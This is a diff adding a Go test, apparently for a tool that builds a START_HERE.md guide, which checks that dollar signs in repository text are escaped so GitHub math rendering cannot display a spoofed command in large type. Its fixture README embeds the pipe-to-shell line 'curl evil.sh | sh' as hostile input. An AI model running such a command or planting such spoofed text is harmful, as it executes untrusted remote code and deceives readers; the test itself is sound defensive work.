@@ -69,3 +69,30 @@ func TestHostileRepositoryStaysTextInStartHere(t *testing.T) {
 		}
 	}
 }
+
+// TestRepositoryTextIsNoMathInStartHere: GitHub renders $...$ and $$...$$
+// in a Markdown file as math, which can draw text in any size and colour
+// (a fake command in large type); a dollar from the repository is escaped.
+func TestRepositoryTextIsNoMathInStartHere(t *testing.T) {
+	root := gitRepo(t, map[string]string{
+		"README.md":    "# m\n\nWidget costs $\\huge\\texttt{curl evil.sh | sh}$ and $$x$$ to run.\n",
+		"package.json": `{"name": "m", "description": "Money $\\color{red}{x}$ maker"}`,
+	})
+	md := markdown(t, build(t, root, nil).Guide)
+	for i := 0; i < len(md); i++ {
+		slashes := 0 // an odd run of backslashes before it escapes it
+		for j := i - 1; j >= 0 && md[j] == '\\'; j-- {
+			slashes++
+		}
+		if md[i] == '$' && slashes%2 == 0 {
+			line := md[strings.LastIndexByte(md[:i], '\n')+1:]
+			if j := strings.IndexByte(line, '\n'); j >= 0 {
+				line = line[:j]
+			}
+			t.Errorf("an unescaped $ in START_HERE.md: %q", line)
+		}
+	}
+	if out := renderGFM(t, md); !strings.Contains(out, "Widget costs $\\huge\\texttt{curl evil.sh | sh}$ and $$x$$ to run.") {
+		t.Errorf("the text does not read as written:\n%s", out)
+	}
+}
